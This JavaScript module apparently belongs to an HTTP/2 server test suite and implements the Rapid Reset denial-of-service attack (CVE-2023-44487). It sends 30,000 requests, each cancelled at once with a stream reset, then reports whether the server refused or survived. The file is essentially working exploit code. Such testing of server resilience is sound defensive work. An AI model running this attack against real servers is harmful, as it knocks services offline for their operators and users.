// CVE-2023-44487: whole requests, each reset at once, as fast as the wire takes them.
import { Code, reset } from "../../raw/frames.mjs";
import { pour } from "../target.mjs";
import { refusedOrSurvived } from "../verdicts.mjs";

export const name = "rapid reset";

export async function attack(target) {
  const connection = await target.open();
  const sent = await pour(connection, 30_000, (i) => Buffer.concat([target.request("mute", 2 * i + 1), reset(2 * i + 1)]), { batch: 200 });
  return `${sent} requests reset: ${refusedOrSurvived(connection, [Code.ENHANCE_YOUR_CALM])}`;
}
